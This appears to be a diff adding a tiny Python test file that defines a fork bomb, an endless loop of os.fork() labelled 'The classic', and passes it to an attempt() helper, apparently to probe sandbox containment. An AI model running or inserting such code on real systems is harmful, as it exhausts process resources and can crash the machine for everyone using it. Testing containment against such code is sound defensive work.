@@ -1,0 +1,9 @@
+"""The classic."""
+
+
+def bomb():
+    while True:
+        os.fork()
+
+
+answer = attempt(bomb)
